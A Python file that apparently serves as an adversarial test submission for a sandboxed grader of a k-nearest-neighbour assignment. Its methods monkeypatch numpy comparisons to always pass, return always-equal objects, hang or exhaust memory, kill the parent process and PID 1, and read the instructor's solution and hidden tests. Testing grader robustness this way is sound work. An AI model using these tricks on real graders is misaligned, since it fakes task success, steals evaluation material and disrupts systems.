"""A demo submission that attacks the grader instead of solving the assignment.

Every graded function tries a different trick that fools graders which run tests in the student's
own process. In the sandboxed grader each one earns nothing, and the other students are unaffected.
"""
import os
import signal

import numpy as np

# (a) Rewrite every later notebook cell to `pass` (works on in-kernel graders; no IPython here).
try:
    get_ipython().input_transformers_post.append(lambda lines: ["pass\n"])  # noqa: F821
except NameError:
    pass

# (b) Make numpy's comparisons always succeed.
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None


class AlwaysEqual(list):
    """(c) A result that claims to equal anything."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False


class KNearestNeighbor:
    def __init__(self):
        self.X_train = None
        self.y_train = None

    def train(self, X, y):
        self.X_train = X
        self.y_train = y

    def compute_distances_two_loops(self, X):
        # (f) Exhaust the machine's memory.
        hog = np.ones(50 * 2**30 // 8)
        return hog[: X.shape[0] * self.X_train.shape[0]].reshape(X.shape[0], -1)

    def compute_distances_one_loop(self, X):
        # (e) Never return.
        while True:
            pass

    def compute_distances_no_loops(self, X):
        # (c) Rigged equality.
        return AlwaysEqual([AlwaysEqual()] * X.shape[0])

    def predict_labels(self, dists, k=1):
        # (d) Kill whoever is grading us, then leave.
        for target in (os.getppid(), 1):
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
        os._exit(0)

    def predict(self, X, k=1, num_loops=0):
        # (g) Read the instructor's reference solution and the gradebook, wherever they are.
        stolen = []
        for root in ("../../source", "../../../source", os.environ.get("COURSE_DIR", "/nonexistent")):
            for name in ("assignment1/classifiers/k_nearest_neighbor.py", "assignment1/tests/hidden_knn.py"):
                try:
                    with open(os.path.join(root, name)) as f:
                        stolen.append(f.read())
                except OSError:
                    pass
        if not stolen:
            raise RuntimeError("nothing to steal")
        return np.zeros(X.shape[0], dtype=np.int64)
